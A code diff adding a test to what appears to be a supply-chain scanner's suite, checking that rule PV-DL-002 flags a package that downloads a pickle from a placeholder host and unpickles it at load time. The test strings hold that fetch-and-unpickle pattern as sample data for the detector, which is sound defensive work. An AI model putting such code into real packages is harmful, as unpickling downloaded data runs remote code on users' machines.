@@ -618,3 +618,15 @@ def test_a_downloaded_module_imported_is_run_versus_an_unrelated_import() -> Non
         stage=Stage.INSTALL,
     )
     assert "PV-DL-002" not in ids(run(RULES, version))
+
+
+def test_a_downloaded_pickle_saved_and_unpickled_as_the_package_loads_versus_a_model_on_request() -> None:
+    head = "import pickle, urllib.request\nP = '/tmp/cache.pkl'\n"
+    fetch = "urllib.request.urlretrieve('https://h.example/p', P)\n"
+    for load in (
+        "STATE = pickle.load(open(P, 'rb'))\n",
+        "with open(P, 'rb') as fh:\n    STATE = pickle.load(fh)\n",
+    ):
+        assert severities(RULES, py(head + fetch + load), "PV-DL-002") == [Severity.CRITICAL], load
+    on_request = head + "def model():\n    " + fetch + "    return pickle.load(open(P, 'rb'))\n"
+    assert "PV-DL-002" not in ids(run(RULES, py(on_request, stage=Stage.RUNTIME)))
